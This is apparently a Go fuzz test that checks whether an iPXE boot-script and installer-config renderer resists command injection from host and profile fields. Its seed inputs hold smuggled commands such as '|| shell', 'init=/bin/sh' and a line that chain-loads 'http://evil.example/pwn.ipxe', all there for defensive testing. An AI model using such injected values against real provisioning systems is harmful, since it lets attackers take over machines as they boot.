package bootscripts_test

import (
	"bytes"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/bootpilot/bootpilot/bootscripts"
	"github.com/bootpilot/bootpilot/internal/host"
	"github.com/bootpilot/bootpilot/internal/ipxescript"
)

// skeleton reduces a script to its structure as iPXE parses it
// (ipxescript.Parse): per line the label, per command the command name,
// options and other special tokens, goto targets, "ARG" for every other
// token, and the terminator; then the comment.
func skeleton(script string) []string {
	var out []string
	for _, l := range ipxescript.Parse(script) {
		words := []string{l.Label}
		for _, c := range l.Commands {
			for i, tok := range c.Tokens {
				switch {
				case i == 0, tok.Special, i == 1 && c.Tokens[0].Text == "goto":
					words = append(words, tok.Text)
				default:
					words = append(words, "ARG")
				}
			}
			words = append(words, c.Terminator)
		}
		out = append(out, strings.Join(append(words, l.Comment), " "))
	}
	return out
}

// scriptCommands are the only commands a stage-1 script runs.
var scriptCommands = map[string]bool{
	"echo": true, "kernel": true, "initrd": true, "boot": true, "goto": true,
	"sleep": true, "isset": true, "chain": true, "exit": true,
}

// checkNoInjection asserts the properties every rendered script has,
// whatever the host and profile hold, on the script as iPXE parses it.
func checkNoInjection(t *testing.T, script string) {
	t.Helper()
	if !strings.HasPrefix(script, "#!ipxe\n") {
		t.Fatalf("script does not start with #!ipxe:\n%s", script)
	}
	for _, r := range script {
		if r != '\n' && (r < 0x20 || r > 0x7e) {
			t.Errorf("script has control or non-ASCII character %q", r)
		}
	}
	lines := ipxescript.Parse(script)
	if last := lines[len(lines)-1].Commands; len(last) != 1 || fmt.Sprint(last[0].Tokens) != "[{exit false} {1 false}]" {
		t.Errorf("last line = %+v, want \"exit 1\"", last)
	}
	for i, l := range lines {
		if want := map[bool]string{true: "#!ipxe", false: ""}[i == 0]; l.Comment != want {
			t.Errorf("line %d: comment %q, want %q", i, l.Comment, want)
		}
		if l.Label != "" && l.Label != ":failed" {
			t.Errorf("line %d: label %q, want only :failed", i, l.Label)
		}
		for _, c := range l.Commands {
			checkCommand(t, c)
		}
	}
}

// checkCommand checks one command of a stage-1 script.
func checkCommand(t *testing.T, c ipxescript.Command) {
	t.Helper()
	if c.Terminator != "" && c.Terminator != "||" {
		t.Errorf("command %v ends in %q, want only ||", c.Tokens, c.Terminator)
	}
	if len(c.Tokens) == 0 {
		return
	}
	name := c.Tokens[0].Text
	if !scriptCommands[name] {
		t.Errorf("command %q is not one a template runs", name)
	}
	for i, tok := range c.Tokens[1:] {
		switch {
		case strings.HasPrefix(tok.Text, "--"), tok.Text == bootscripts.HoldURLSetting, name == "echo":
		default:
			if err := host.CheckWord("word", tok.Text); err != nil {
				t.Errorf("command %q: argument %d %q: %v", name, i+1, tok.Text, err)
			}
		}
	}
	switch name {
	case "kernel", "initrd", "chain", "imgfetch":
		if len(c.Tokens) < 3 || c.Tokens[1].Text != "--timeout" {
			t.Errorf("fetch without --timeout: %v", c.Tokens)
		}
	case "exit":
		if len(c.Tokens) != 2 || c.Tokens[1].Text != "1" {
			t.Errorf("exit %v, want \"exit 1\"", c.Tokens)
		}
	case "goto":
		if len(c.Tokens) != 2 || c.Tokens[1].Text != "failed" {
			t.Errorf("goto %v, want \"goto failed\"", c.Tokens)
		}
	}
}

// separators are what the fuzzer inserts into a field: everything iPXE
// parses, each alone and as a word of its own.
var separators = []string{";", "||", "&&", "#", "${x}", `"`, "'", `\`, "\r", "\n", "\t", "\v", "\f", "\x00", ":l", "-x"}

// insertSeparator inserts separator sel (below 2*len(separators): the
// second half as a word of its own, " ; ") into field target of h or p at
// byte pos (both modulo their range).
func insertSeparator(h *host.Host, p *host.Profile, sel int, target uint8, pos uint16) {
	sep := separators[sel%len(separators)]
	if sel >= len(separators) {
		sep = " " + sep + " "
	}
	fields := []*string{&p.Cmdline, &p.Kernel, &h.Name, &h.Hostname, &h.Domain, &p.Image, &p.TargetDisk, &p.Name}
	if len(p.Initrds) > 0 {
		fields = append(fields, &p.Initrds[0])
	}
	f := fields[int(target)%len(fields)]
	i := int(pos) % (len(*f) + 1)
	*f = (*f)[:i] + sep + (*f)[i:]
}

// twinHost returns a host with the same shape as h (which fields are set,
// how many MACs and DNS servers of which family) but fixed, known values.
func twinHost(h host.Host) host.Host {
	tw := host.Host{Name: "twin", IPv4: "10.0.9.15/24", Gateway: "10.0.9.1"}
	for i := range h.MACs {
		tw.MACs = append(tw.MACs, fmt.Sprintf("02:00:00:00:%02x:%02x", i/256%256, i%256))
	}
	for i, d := range h.DNS {
		if netip.MustParseAddr(d).Is4() {
			tw.DNS = append(tw.DNS, fmt.Sprintf("10.0.8.%d", i%250+1))
		} else {
			tw.DNS = append(tw.DNS, fmt.Sprintf("2001:db8::%x", i+1))
		}
	}
	if h.IPv6 != "" {
		tw.IPv6 = "2001:db8::15/64"
		if h.Gateway6 != "" {
			tw.Gateway6 = "2001:db8::1"
		}
	}
	tw.VLAN = h.VLAN
	if h.Domain != "" {
		tw.Domain = "example.org"
	}
	return tw
}

// twinProfile does for a profile what twinHost does for a host.
func twinProfile(p host.Profile) host.Profile {
	tw := host.Profile{Name: "twin", Installer: p.Installer, Kernel: "https://k.example/vmlinuz",
		ImageSHA256: p.ImageSHA256, CleanMethod: p.CleanMethod}
	for i := range p.Initrds {
		tw.Initrds = append(tw.Initrds, fmt.Sprintf("https://k.example/initrd%d", i))
	}
	var words []string
	for i := range strings.Fields(p.Cmdline) {
		words = append(words, fmt.Sprintf("w%d", i))
	}
	tw.Cmdline = strings.Join(words, " ")
	switch {
	case p.Image == "":
	case strings.HasPrefix(p.Image, "http://"), strings.HasPrefix(p.Image, "https://"):
		tw.Image = "https://i.example/disk.raw"
	case strings.Contains(p.Image, "://"):
		tw.Image = "ftp://i.example/disk.raw"
	default:
		tw.Image = "registry.example/os@sha256:" + strings.Repeat("a", 64)
	}
	if p.TargetDisk != "" {
		tw.TargetDisk = "/dev/vda"
	}
	return tw
}

// lineShape is a config's structure: its words per line.
func lineShape(s string) []int {
	var n []int
	for _, l := range strings.Split(s, "\n") {
		n = append(n, len(strings.Fields(l)))
	}
	return n
}

func FuzzScriptInjection(f *testing.F) {
	// seed adds a case without an inserted separator (sel 2*len(separators));
	// seedSep one with separator sel in field target.
	seedSep := func(sel, target uint8, pos uint16, name, macs, ipv4, gw, dns, ipv6, gw6 string, vlan int, hostname, domain,
		installer, kernel, initrds, cmdline, image, sha, disk, clean string) {
		f.Add(name, macs, ipv4, gw, dns, ipv6, gw6, vlan, hostname, domain, installer, kernel, initrds, cmdline, image, sha, disk, clean, sel, target, pos)
	}
	seed := func(name, macs, ipv4, gw, dns, ipv6, gw6 string, vlan int, hostname, domain,
		installer, kernel, initrds, cmdline, image, sha, disk, clean string) {
		seedSep(uint8(2*len(separators)), 0, 0, name, macs, ipv4, gw, dns, ipv6, gw6, vlan, hostname, domain, installer, kernel, initrds, cmdline, image, sha, disk, clean)
	}
	sha := strings.Repeat("ab", 32)
	k := "https://mirror.example/vmlinuz"
	seed("node01", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "kickstart", k, "https://mirror.example/initrd.img", "console=ttyS0", "", "", "", "")
	seed("node02", "52:54:00:12:34:56,52-54-00-12-34-57", "10.0.2.16/24", "10.0.2.2", "10.0.2.3,2001:db8::53", "2001:db8::16/64", "2001:db8::1", 100, "web02", "example.org", "preseed", k, "https://m/a\nhttps://m/b", "a b  c", "", "", "", "")
	seed("node03", "5254.0012.3456", "192.168.1.10/30", "192.168.1.9", "192.168.1.1", "", "", 7, "", "lab.example", "autoinstall", k, "https://m/i", "", "", "", "", "")
	seed("node04", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "image", k, "https://m/i", "", "https://img.example/disk.raw.zst", sha, "size>=100G", "discard")
	seed("node05", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "image", k, "", "x", "reg.example:5000/os@sha256:"+sha, sha, "serial=ABC", "zero")
	seed("node06", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "none", k, "", "", "", "", "", "")
	// Injection attempts: each must be refused by Normalize or rendered inert.
	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "x\nshell", "a.b || shell", "none", k+"?a=${net0/ip}", "https://m/i || shell", "a || shell # x", "", "", "", "")
	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "image", k+"#frag", "https://m/i\n\nhttps://m/j", "--name x init=/bin/sh", "https://i/x && shell", sha, "size>=1G;shell", "zero")
	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "kickstart", "https://u:p@m/k", "", "\texit", "$x", sha, "a\tb", "x")
	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "image", k, "", "ok", "reg/x${y}", sha, "/dev/vda", "")
	seed("exit", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "goto", "", "kickstart", k, "", "goto failed exit boot :failed", "", "", "", "")
	// The bare ';' that ran "echo INJECTED" in the real iPXE, literal and
	// generated, in the cmdline and in other fields.
	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "kickstart", k, "", "console=ttyS0 ; echo INJECTED ;", "", "", "", "")
	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "none", k, "", "; chain http://evil.example/pwn.ipxe ;", "", "", "", "")
	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "autoinstall", k, "https://m/i", "a;b ;c d;", "", "", "", "")
	n := uint8(len(separators))
	for sel := range 2 * n {
		for target := range uint8(9) {
			seedSep(sel, target, 13, "n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "web", "example.org", "image", k, "https://m/i",
				"console=ttyS0 quiet", "https://img.example/disk.raw", sha, "/dev/vda", "zero")
		}
	}

	r := MustRenderer(f)
	ca, fp := testCA(f)
	f.Fuzz(func(t *testing.T, name, macs, ipv4, gw, dns, ipv6, gw6 string, vlan int, hostname, domain,
		installer, kernel, initrds, cmdline, image, sha, disk, clean string, sel, target uint8, pos uint16) {
		h := host.Host{Name: name, MACs: strings.Split(macs, ","), IPv4: ipv4, Gateway: gw,
			DNS: strings.Split(dns, ","), IPv6: ipv6, Gateway6: gw6, VLAN: vlan, Hostname: hostname, Domain: domain}
		p := host.Profile{Name: "fuzz", Installer: host.Installer(installer), Kernel: kernel, Cmdline: cmdline,
			Image: image, ImageSHA256: sha, TargetDisk: disk, CleanMethod: clean}
		if initrds != "" {
			p.Initrds = strings.Split(initrds, "\n")
		}
		if k := int(sel) % (2*len(separators) + 1); k < 2*len(separators) {
			insertSeparator(&h, &p, k, target, pos)
		}
		if h.Normalize() != nil || p.Normalize() != nil {
			return
		}
		tw, tp := twinHost(h), twinProfile(p)
		if err := tw.Normalize(); err != nil {
			t.Fatalf("twin host: %v", err)
		}
		if err := tp.Normalize(); err != nil {
			t.Fatalf("twin profile: %v", err)
		}
		data := func(a host.Action, h host.Host, p host.Profile) bootscripts.ScriptData {
			return bootscripts.ScriptData{Action: a, Host: h, Profile: p, Attempt: 1,
				ServerURL:   "https://10.0.2.100:8443",
				CallbackURL: "https://10.0.2.100:8443/boot/v1/callback/x/cb",
				ConfigURL:   "https://10.0.2.100:8443/boot/v1/config/x/cf",
				CAPEM:       ca, CAFingerprint: fp, HoldSeconds: 60, Timeout: 30000}
		}
		for _, a := range []host.Action{host.ActionInstall, host.ActionClean, host.ActionHold, host.ActionLocalboot} {
			var got, want bytes.Buffer
			err := r.Script(&got, data(a, h, p))
			if err != nil {
				var ve *host.ValidationError
				if !errors.As(err, &ve) {
					t.Errorf("Script(%s) = %v, want a *host.ValidationError when it refuses", a, err)
				}
				if got.Len() != 0 {
					t.Errorf("Script(%s) failed but wrote %q", a, got.String())
				}
				continue
			}
			if err := r.Script(&want, data(a, tw, tp)); err != nil {
				t.Fatalf("Script(%s) of the twin = %v", a, err)
			}
			checkNoInjection(t, got.String())
			gs, ws := skeleton(got.String()), skeleton(want.String())
			if strings.Join(gs, "\n") != strings.Join(ws, "\n") {
				t.Errorf("Script(%s): structure differs from the placeholder render\ngot:\n%s\nwant:\n%s\nscript:\n%s",
					a, strings.Join(gs, "\n"), strings.Join(ws, "\n"), got.String())
			}
		}
		for _, file := range bootscripts.ConfigFiles(p.Installer) {
			var got, want bytes.Buffer
			if err := r.Config(&got, file, data(host.ActionInstall, h, p)); err != nil {
				t.Errorf("Config(%s) = %v", file, err)
				continue
			}
			if err := r.Config(&want, file, data(host.ActionInstall, tw, tp)); err != nil {
				t.Fatalf("Config(%s) of the twin = %v", file, err)
			}
			if g, w := lineShape(got.String()), lineShape(want.String()); fmt.Sprint(g) != fmt.Sprint(w) {
				t.Errorf("Config(%s): words per line %v, placeholder render has %v\n%s", file, g, w, got.String())
			}
		}
	})
}
